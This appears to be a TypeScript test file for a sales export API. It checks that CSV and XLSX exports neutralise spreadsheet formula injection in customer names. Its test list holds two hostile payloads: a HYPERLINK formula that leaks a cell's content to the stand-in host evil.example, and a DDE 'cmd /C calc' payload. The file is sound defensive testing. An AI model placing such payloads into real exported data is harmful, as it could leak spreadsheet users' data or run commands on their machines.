import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { useTestApp } from '../../../test/helpers';

const t = useTestApp();

/** A strict RFC 4180 reader with ';' as the separator (what Excel in pt-BR does with our file). */
function lerCsv(texto: string): string[][] {
  const linhas: string[][] = [];
  let linha: string[] = [];
  let campo = '';
  let aspas = false;
  for (let i = 0; i < texto.length; i++) {
    const c = texto[i]!;
    if (aspas) {
      if (c === '"' && texto[i + 1] === '"') {
        campo += '"';
        i++;
      } else if (c === '"') aspas = false;
      else campo += c;
    } else if (c === '"') aspas = true;
    else if (c === ';') {
      linha.push(campo);
      campo = '';
    } else if (c === '\r' && texto[i + 1] === '\n') {
      linha.push(campo);
      linhas.push(linha);
      linha = [];
      campo = '';
      i++;
    } else campo += c;
  }
  return linhas;
}

const PERIGOSOS = [
  '=HYPERLINK("http://evil.example/?x="&A1;"clique")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+55 11 9999',
  '-2+3',
  '\tTab',
  '\rCR',
];

describe('sales export', () => {
  it('CSV: cells that a spreadsheet would run as formulas are quoted and prefixed with a single quote', async () => {
    const auth = await t.loginAs('admin');
    const mesas = await t.ctx.db
      .selectFrom('mesas')
      .select('id')
      .where('empresa_id', '=', 1)
      .orderBy('numero')
      .limit(PERIGOSOS.length + 1)
      .execute();
    for (const [i, nome] of [...PERIGOSOS, 'Maria; "Bia"'].entries()) {
      const venda = await t.app.inject({
        method: 'POST',
        url: '/api/vendas',
        headers: auth,
        payload: { mesa_id: mesas[i]!.id, nome_cliente: nome },
      });
      expect(venda.statusCode).toBe(201);
      // the API trims names; a leading tab or CR can still come from older data, so store the raw name
      await t.ctx.db.updateTable('vendas').set({ nome_cliente: nome }).where('id', '=', venda.json().id).execute();
    }
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/vendas/exportar?formato=csv&situacao=A',
      headers: auth,
    });
    expect(res.statusCode).toBe(200);
    const [cabecalho, ...linhas] = lerCsv(res.body.replace(/^\uFEFF/, ''));
    const col = cabecalho!.indexOf('Cliente');
    const clientes = linhas.map((l) => l[col]!);
    for (const nome of PERIGOSOS) expect(clientes).toContain(`'${nome}`);
    expect(clientes).toContain('Maria; "Bia"');
    // nothing a spreadsheet evaluates starts a cell
    for (const l of linhas) for (const c of l) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    // and every such raw cell is quoted
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""clique"")"`);

    const xlsx = await t.app.inject({
      method: 'GET',
      url: '/api/vendas/exportar?formato=xlsx&situacao=A',
      headers: auth,
    });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as any);
    const ws = wb.getWorksheet('Vendas')!;
    const celulas = Array.from({ length: ws.rowCount - 2 }, (_, i) => ws.getRow(i + 2).getCell(3));
    const hyperlink = celulas.find((c) => String(c.value).startsWith('=HYPERLINK'))!;
    expect(hyperlink.type).toBe(ExcelJS.ValueType.String); // stored as text, never as a formula
    expect(celulas.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
  });

  it('refuses an unknown format with 400 "Formato inválido"', async () => {
    const auth = await t.loginAs('admin');
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/vendas/exportar?formato=pdf&situacao=X',
      headers: auth,
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toBe('Formato inválido');
  });
});
